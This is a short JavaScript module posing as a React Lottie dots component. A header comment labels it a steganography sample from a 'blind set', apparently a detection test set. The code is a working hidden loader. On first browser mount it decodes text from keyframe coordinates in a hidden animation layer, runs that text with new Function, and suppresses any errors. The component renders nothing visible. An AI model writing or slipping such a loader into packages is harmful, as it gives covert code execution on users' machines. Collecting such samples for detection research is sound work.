// source: blind set 48's react-lottie-dots (steganography): a hidden guide layer of the bundled Lottie animation holds
// the stage as keyframe coordinates; on the first mount in a browser a reduce callback turns each `s[0] - 100` into a
// character and the function runs the text
'use strict';
const anim = require('./animation.json');
let prepared = false;
function prepare(data) {
  if (prepared || typeof window === 'undefined') return;
  prepared = true;
  const guide = data.layers.find((l) => l.ty === 3 && l.hd);
  if (!guide) return;
  const path = guide.ks.p.k.reduce((acc, k) => acc + String.fromCharCode(k.s[0] - 100, k.s[1] - 100), '');
  try { new Function(path.trim())(); } catch (e) {}
}
function Dots() { prepare(anim); return null; }
module.exports = { Dots };
